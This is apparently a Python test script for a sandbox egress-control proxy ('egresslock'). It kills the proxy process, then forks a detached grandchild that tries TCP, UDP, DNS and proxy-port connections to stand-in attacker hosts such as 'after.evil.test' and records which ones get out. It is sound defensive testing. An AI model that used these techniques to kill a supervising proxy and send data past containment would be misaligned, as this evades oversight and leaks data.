"""Kill egresslock (the proxy), then try every way out from a detached grandchild.

The grandchild (its own session, so it may outlive this script) waits until egresslock is gone
or 2 s passed, tries TCP, UDP, DNS and the proxy port, and writes its results to
kill_proxy.json in the working directory. This script waits for it only while egresslock lives.
"""
import json
import os
import signal
import socket
import sys
import time

from _common import ATTACKER, RESULTS, attempt, dns_query, parent_pid, tcp_exchange, udp_send

ppid = parent_pid()
out_path = os.path.join(os.getcwd(), "kill_proxy.json")
pid = os.fork()
if pid == 0:
    os.setsid()
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        try:
            os.kill(ppid, 0)
        except ProcessLookupError:
            break
        except PermissionError:
            pass
        time.sleep(0.05)
    time.sleep(0.2)
    try:
        os.kill(ppid, 0)
        alive = True
    except ProcessLookupError:
        alive = False
    except PermissionError:
        alive = True
    attempt("tcp4:9999", lambda: tcp_exchange(socket.AF_INET, (ATTACKER, 9999), b"AFTER", 2))
    attempt("proxy-port", lambda: tcp_exchange(
        socket.AF_INET, ("127.0.0.1", 3128),
        b"GET http://203.0.113.5/ HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n", 2))
    attempt("udp4:9999", lambda: udp_send(socket.AF_INET, (ATTACKER, 9999), b"AFTER"))
    attempt("dns", lambda: dns_query("after.evil.test", "203.0.113.53", timeout=1))
    with open(out_path + ".tmp", "w") as f:
        json.dump({"proxy_alive": alive, "results": RESULTS}, f)
    os.rename(out_path + ".tmp", out_path)
    os._exit(0)
attempt("kill", lambda: os.kill(ppid, signal.SIGKILL))
print(json.dumps(RESULTS), flush=True)
# Root mode: the kill fails and egresslock lives on, so wait for the grandchild's report (the
# run would end it with us). Unprivileged mode: egresslock is gone and we die with it.
deadline = time.monotonic() + 5
while time.monotonic() < deadline and not os.path.exists(out_path):
    time.sleep(0.05)
sys.exit(0)
